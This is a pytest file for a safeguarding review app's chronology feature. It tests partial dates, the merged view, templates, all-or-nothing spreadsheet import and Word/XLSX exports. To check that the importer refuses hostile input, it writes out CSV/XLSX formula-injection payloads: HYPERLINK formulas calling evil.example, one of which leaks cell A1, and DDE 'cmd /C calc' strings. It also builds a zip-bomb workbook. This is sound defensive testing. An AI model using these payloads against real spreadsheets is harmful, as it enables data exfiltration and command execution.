"""The multi-agency chronology against PostgreSQL: entries by day or month, the merged view, the template,
the all-or-nothing import (hostile spreadsheets refused by row and column) and the Word and XLSX exports."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import re

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from cspr.accounts.models import Role
from cspr.audit.models import AuditEvent
from cspr.chronology import services
from cspr.chronology.models import ChronologyEntry
from cspr.db import get_db
from cspr.db.tenancy import acting_for
from cspr.partnerships import services as partnerships
from cspr.services.context import Context
from tests.api_kit import Api, make_member
from tests.web_kit import csrf_of, signed_in

SLUG = "doncaster"
HEADINGS = ["Date", "Agency", "What happened", "Source document", "Key practice episode"]


@pytest.fixture
def api(app, client) -> Api:
    return Api(client, make_member(app, SLUG, Role.ADMIN))


@pytest.fixture
def incident(api) -> int:
    today = dt.date.today()
    response = api.post("/incidents", {
        "pseudonym": "Child C", "la_case_reference": "LA-C1", "la_area": "Doncaster", "age_band": "1_4",
        "harm": "serious_harm", "incident_on": (today - dt.timedelta(days=3)).isoformat(),
        "aware_on": (today - dt.timedelta(days=2)).isoformat()})
    assert response.status_code == 201, response.get_data(as_text=True)
    return response.get_json()["id"]


def rows_in_db(app) -> list[ChronologyEntry]:
    with app.app_context(), get_db().session_scope() as session:
        row = partnerships.get(session, SLUG)
        with acting_for(session, row.id):
            found = session.scalars(select(ChronologyEntry).order_by(ChronologyEntry.id)).all()
            session.expunge_all()
            return found


def xlsx(rows: list[list], headings: list[str] = HEADINGS) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "Chronology"
    sheet.append(headings)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows: list[list], headings: list[str] = HEADINGS) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headings)
    writer.writerows(rows)
    return out.getvalue().encode()


def upload(api: Api, incident: int, content: bytes):
    return api.post(f"/incidents/{incident}/chronology/import", {"file": base64.b64encode(content).decode()})


def problems(response) -> dict[str, str]:
    assert response.status_code == 422, response.get_data(as_text=True)[:500]
    errors = response.get_json()["errors"]["json"]
    return {k: v[0] if isinstance(v, list) else v for k, v in errors.items()}


# -- entries, their dates and the merged view --------------------------------------------------

def test_entries_by_day_and_by_month_are_merged_in_date_order_and_no_day_is_made_up(app, api, incident):
    for body in [
        {"occurred_on": "2025-03-20", "agency": "sy-police", "what_happened": "Police welfare visit"},
        {"occurred_on": "2025-03", "agency": "schools", "what_happened": "Attendance fell", "key_episode": True},
        {"occurred_on": "2025-02-14", "agency": "dbth", "what_happened": "A&E attendance",
         "source": "ED record 44"},
        {"occurred_on": "2025-03-01", "agency": "sy-icb", "what_happened": "GP appointment missed"},
    ]:
        response = api.post(f"/incidents/{incident}/chronology", body)
        assert response.status_code == 201, response.get_data(as_text=True)
    listed = api.get(f"/incidents/{incident}/chronology").get_json()
    assert [e["what_happened"] for e in listed] == [
        "A&E attendance", "Attendance fell", "GP appointment missed", "Police welfare visit"]
    month_only = listed[1]
    assert month_only["occurred_on"] == "2025-03" and month_only["precision"] == "month"
    assert month_only["date_shown"] == "March 2025" and month_only["key_episode"] is True
    assert listed[0]["date_shown"] == "14 February 2025" and listed[0]["source"] == "ED record 44"
    stored = {e.what_happened: e for e in rows_in_db(app)}
    assert stored["Attendance fell"].day is None and stored["Attendance fell"].precision == "month"
    assert stored["Police welfare visit"].day == 20
    only_police = api.get(f"/incidents/{incident}/chronology?agency=sy-police").get_json()
    assert [e["agency"] for e in only_police] == ["sy-police"]


@pytest.mark.parametrize(("body", "field", "words"), [
    ({"occurred_on": "2025-02-30"}, "occurred_on", "must be a real date"),
    ({"occurred_on": "14/03/2025"}, "occurred_on", "must be a real date"),
    ({"occurred_on": (dt.date.today() + dt.timedelta(days=40)).isoformat()}, "occurred_on", "today or in the past"),
    ({"agency": "mi5"}, "agency", "one of this partnership's agencies"),
    ({"what_happened": "   "}, "what_happened", "what happened"),
])
def test_a_wrong_entry_is_refused_by_name_and_nothing_is_added(app, api, incident, body, field, words):
    good = {"occurred_on": "2025-03-01", "agency": "sy-police", "what_happened": "Visit"}
    errors = problems(api.post(f"/incidents/{incident}/chronology", {**good, **body}))
    assert words in errors[field].lower()
    assert rows_in_db(app) == []


def test_the_page_adds_a_month_only_entry_and_shows_it_as_the_month(app, client, incident):
    browser = signed_in(app, client, SLUG, Role.ADMIN, email="page-admin@doncaster.example.org")
    url = f"/app/{SLUG}/incidents/{incident}/chronology/new"
    form = browser.get(url).get_data(as_text=True)
    assert 'name="occurred_on"' in form and "leave the day empty" in form
    response = browser.submit(url, {"occurred_on": ["", "3", "2025"], "agency": "schools",
                                    "what_happened": "Attendance fell", "key_episode": "y"})
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    missing = browser.submit(url, {"occurred_on": ["4", "", "2025"], "agency": "schools", "what_happened": "x"})
    assert missing.status_code == 400 and "Date must include a month" in missing.get_data(as_text=True)
    page = browser.get(f"/app/{SLUG}/incidents/{incident}/chronology").get_data(as_text=True)
    assert "March 2025" in page and "Attendance fell" in page and "Key practice episode" in page
    (entry,) = rows_in_db(app)
    assert (entry.year, entry.month, entry.day, entry.key_episode) == (2025, 3, None, True)
    filtered = browser.get(f"/app/{SLUG}/incidents/{incident}/chronology?agency=sy-police").get_data(as_text=True)
    assert "Attendance fell" not in filtered


def test_a_contributor_may_add_entries_for_their_own_agency_only(app, monkeypatch):
    with app.app_context(), get_db().session_scope() as session:
        partnerships.sync(session, app.extensions["cspr.plugins"])
        row = partnerships.get(session, SLUG)
        with acting_for(session, row.id):
            ctx = Context(session, row, app.extensions["cspr.plugins"].policy(SLUG), actor="test",
                          role=Role.CONTRIBUTOR)
            monkeypatch.setattr(services, "own_agency", lambda _ctx: "schools")
            assert services.agencies_for(ctx) == [("schools", "Doncaster schools and academies")]
            from cspr.chronology.dates import PartialDate

            when = PartialDate(2025, 3)
            assert services.problems(ctx, {"agency": "schools", "occurred_on": when, "what_happened": "x"}) == {}
            assert services.problems(ctx, {"agency": "sy-police", "occurred_on": when, "what_happened": "x"}) == {
                "agency": "You can add entries only for your own agency"}
            monkeypatch.setattr(services, "own_agency", lambda _ctx: None)  # no agency: none at all
            assert services.agencies_for(ctx) == []


# -- the template ---------------------------------------------------------------------------------

def test_the_template_lists_the_partnerships_agencies_and_the_columns(api):
    response = api.get("/chronology/template.xlsx")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    assert [c.value for c in book["Chronology"][1]] == HEADINGS
    agencies = [row[0] for row in book["Agencies"].iter_rows(min_row=2, values_only=True)]
    assert "South Yorkshire Police" in agencies and "Doncaster schools and academies" in agencies
    assert book["Chronology"].data_validations.dataValidation  # the agency is picked from the list
    text = api.get("/chronology/template.csv").get_data(as_text=True)
    assert next(csv.reader(io.StringIO(text))) == HEADINGS


# -- importing ------------------------------------------------------------------------------------

def test_a_filled_in_template_is_imported_whole(app, api, incident):
    template = load_workbook(io.BytesIO(api.get("/chronology/template.xlsx").data))
    sheet = template["Chronology"]
    sheet.append([dt.datetime(2025, 1, 7), "South Yorkshire Police", "Domestic incident attended", "PNC 1", "Yes"])
    sheet.append(["March 2025", "schools", "Attendance fell", None, None])
    sheet.append(["14/02/2025", "doncaster and bassetlaw teaching hospitals nhs foundation trust",
                  "A&E attendance", "ED 2", "no"])
    month_cell = [dt.datetime(2024, 11, 1), "sy-icb", "Health visitor contact", None, "No"]
    sheet.append(month_cell)
    sheet.cell(sheet.max_row, 1).number_format = "mmm-yy"  # Excel's way of a month without its day
    out = io.BytesIO()
    template.save(out)
    response = upload(api, incident, out.getvalue())
    assert response.status_code == 201, response.get_data(as_text=True)
    assert response.get_json()["imported"] == 4
    listed = api.get(f"/incidents/{incident}/chronology").get_json()
    assert [(e["date_shown"], e["agency"]) for e in listed] == [
        ("November 2024", "sy-icb"), ("7 January 2025", "sy-police"), ("14 February 2025", "dbth"),
        ("March 2025", "schools")]
    assert [e["key_episode"] for e in listed] == [False, True, False, False]
    with app.app_context(), get_db().session_scope() as session:
        row = partnerships.get(session, SLUG)
        with acting_for(session, row.id):
            (event,) = session.scalars(select(AuditEvent).where(AuditEvent.action == "chronology.imported"))
            assert event.detail["entries"] == 4 and len(event.detail["sha256"]) == 64


def test_one_bad_row_imports_nothing_and_each_problem_names_its_row_and_column(app, api, incident):
    content = csv_bytes([
        ["07/01/2025", "sy-police", "Fine row", "", ""],
        ["32/01/2025", "sy-police", "Wrong day", "", ""],
        ["01/01/2025", "The Ministry of Magic", "Unknown agency", "", ""],
        ["01/13/2025", "schools", "US-style date", "", ""],
        [(dt.date.today() + dt.timedelta(days=60)).strftime("%d/%m/%Y"), "schools", "In the future", "", ""],
        ["01/02/2025", "schools", "", "", ""],
        ["01/02/2025", "schools", "Flag", "", "perhaps"],
    ])
    errors = problems(upload(api, incident, content))
    assert errors["file"] == "The spreadsheet has 6 problems and nothing was imported"
    assert errors["rows.3.occurred_on"].startswith("Row 3: date must be a real date")
    assert errors["rows.4.agency"] == "Row 4: select one of this partnership's agencies"
    assert "rows.5.occurred_on" in errors
    assert errors["rows.6.occurred_on"] == "Row 6: date must be today or in the past"
    assert errors["rows.7.what_happened"] == "Row 7: enter what happened"
    assert errors["rows.8.key_episode"] == "Row 8: key practice episode must be Yes or No"
    assert "rows.2.occurred_on" not in errors
    assert rows_in_db(app) == []


def test_an_xlsx_with_a_formula_is_refused(app, api, incident):
    content = xlsx([["01/02/2025", "sy-police", "Visit", None, None],
                    ["01/02/2025", "sy-police", '=HYPERLINK("http://evil.example/","click")', None, None],
                    ["=TODAY()", "sy-police", "Visit", None, None]])
    errors = problems(upload(api, incident, content))
    assert errors["rows.3.what_happened"] == ("Row 3: what happened must be a value, not a formula: copy the cell "
                                              "and paste it as a value")
    assert errors["rows.4.occurred_on"].startswith("Row 4: date must be a value, not a formula")
    assert rows_in_db(app) == []


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"])
def test_a_csv_with_a_formula_is_refused(app, api, incident, cell):
    content = csv_bytes([["01/02/2025", "sy-police", "Visit", cell, ""]])
    errors = problems(upload(api, incident, content))
    assert errors["rows.2.source"].startswith("Row 2: source document must be a value, not a formula"), errors
    assert rows_in_db(app) == []


@pytest.mark.parametrize(("content", "words"), [
    (b"", "the spreadsheet is empty"),
    (b"%PDF-1.7\n1 0 obj <</JavaScript (app.alert(1))>> endobj", "row 1 has a heading the template does not"),
    (b"PK\x03\x04 not really a zip", "must be an xlsx or csv file"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "save it as excel workbook"),
    (b"Date,Agency,What happened\n01/02/2025,sy-police,Vis\x00it\n", "must be an xlsx or csv file"),
    (b"Date,Agency\n01/02/2025,sy-police\n", "it has no what happened column"),
    (b"Date,Agency,What happened\n", "has no entries"),
])
def test_a_file_that_is_not_the_template_is_refused_with_the_reason(app, api, incident, content, words):
    errors = problems(upload(api, incident, content))
    assert words in errors["file"].lower(), errors
    assert rows_in_db(app) == []


def test_ten_thousand_rows_are_refused_whole_and_an_oversized_file_is_refused(app, api, incident):
    rows = [["01/02/2025", "sy-police", f"Visit {n}", "", ""] for n in range(10_000)]
    errors = problems(upload(api, incident, csv_bytes(rows)))
    assert errors["file"] == ("The spreadsheet has more than 5,000 entries: split it into files of 5,000 rows "
                              "or fewer")
    big = csv_bytes([["01/02/2025", "sy-police", "x" * 9_000, "", ""] for _ in range(600)])
    assert len(big) > 5 * 1024 * 1024
    assert problems(upload(api, incident, big))["file"] == "The spreadsheet must be smaller than 5 MB"
    assert rows_in_db(app) == []


def test_a_zip_bomb_workbook_is_refused_before_it_is_opened(app, api, incident):
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (60 * 1024 * 1024))
    errors = problems(upload(api, incident, out.getvalue()))
    assert "too big once unpacked" in errors["file"]


def test_the_import_page_lists_every_problem_by_row_in_the_error_summary(app, client, incident):
    browser = signed_in(app, client, SLUG, Role.ADMIN, email="import-admin@doncaster.example.org")
    url = f"/app/{SLUG}/incidents/{incident}/chronology/import"
    page = browser.get(url).get_data(as_text=True)
    assert "Doncaster schools and academies" in page  # the agencies to enter
    content = csv_bytes([["07/01/2025", "sy-police", "Fine", "", ""], ["07/01/2025", "nobody", "Bad", "", ""],
                         ["=1+1", "sy-police", "Bad date", "", ""]])
    response = browser.client.post(url, data={"csrf_token": csrf_of(page), "file": (io.BytesIO(content), "c.csv")},
                                   content_type="multipart/form-data")
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "There is a problem" in html and "Nothing was imported" in html
    summary = re.findall(r'<li><a href="#file">([^<]+)</a></li>', html)
    assert summary == ["Row 3: select one of this partnership&#39;s agencies",
                       "Row 4: date must be a value, not a formula: copy the cell and paste it as a value"]
    assert rows_in_db(app) == []
    good = csv_bytes([["07/01/2025", "South Yorkshire Police", "Fine", "", "Yes"]])
    page = browser.get(url).get_data(as_text=True)
    done = browser.client.post(url, data={"csrf_token": csrf_of(page), "file": (io.BytesIO(good), "c.csv")},
                               content_type="multipart/form-data")
    assert done.status_code == 302 and len(rows_in_db(app)) == 1


# -- exports --------------------------------------------------------------------------------------

def test_the_exports_are_a_word_document_and_a_workbook_with_real_dates(app, api, incident):
    for body in [{"occurred_on": "2025-03", "agency": "schools", "what_happened": "Attendance fell",
                  "key_episode": True},
                 {"occurred_on": "2025-01-07", "agency": "sy-police", "what_happened": "=cmd|' /C calc'!A0"}]:
        assert api.post(f"/incidents/{incident}/chronology", body).status_code == 201
    word = api.get(f"/incidents/{incident}/chronology.docx")
    assert word.status_code == 200 and word.mimetype.endswith("wordprocessingml.document")
    document = Document(io.BytesIO(word.data))
    cells = [[c.text for c in row.cells] for row in document.tables[0].rows]
    assert cells[0] == HEADINGS
    assert cells[1][:2] == ["7 January 2025", "South Yorkshire Police"]
    assert cells[2][:3] == ["March 2025", "Doncaster schools and academies", "Attendance fell"]
    assert cells[2][4] == "★ Key practice episode" and cells[1][4] == ""
    assert all(run.bold for run in document.tables[0].rows[2].cells[2].paragraphs[0].runs)
    sheet = load_workbook(io.BytesIO(api.get(f"/incidents/{incident}/chronology.xlsx").data))["Chronology"]
    first, second = list(sheet.iter_rows(min_row=2))
    assert first[0].value == dt.datetime(2025, 1, 7) and first[0].number_format == "d mmmm yyyy"
    assert second[0].value == dt.datetime(2025, 3, 1) and second[0].number_format == "mmmm yyyy"
    assert second[1].value == "month" and second[5].value == "Yes"
    assert first[3].value.startswith("'=")  # never run as a formula
    with app.app_context(), get_db().session_scope() as session:
        row = partnerships.get(session, SLUG)
        with acting_for(session, row.id):
            formats = [e.detail["format"] for e in session.scalars(
                select(AuditEvent).where(AuditEvent.action == "export.downloaded"))]
            assert formats == ["docx", "xlsx"]


def test_who_may_read_add_import_and_export(app, client, incident):
    viewer = Api(client, make_member(app, SLUG, Role.VIEWER))
    reviewer = Api(client, make_member(app, SLUG, Role.REVIEWER))
    body = {"occurred_on": "2025-03", "agency": "schools", "what_happened": "x"}
    assert viewer.get(f"/incidents/{incident}/chronology").status_code == 200
    assert viewer.post(f"/incidents/{incident}/chronology", body).status_code == 403
    assert viewer.get(f"/incidents/{incident}/chronology.xlsx").status_code == 200
    assert reviewer.get(f"/incidents/{incident}/chronology").status_code == 403
    assert upload(viewer, incident, csv_bytes([])).status_code == 403
    assert viewer.get(f"/incidents/{incident + 1000}/chronology").status_code == 404
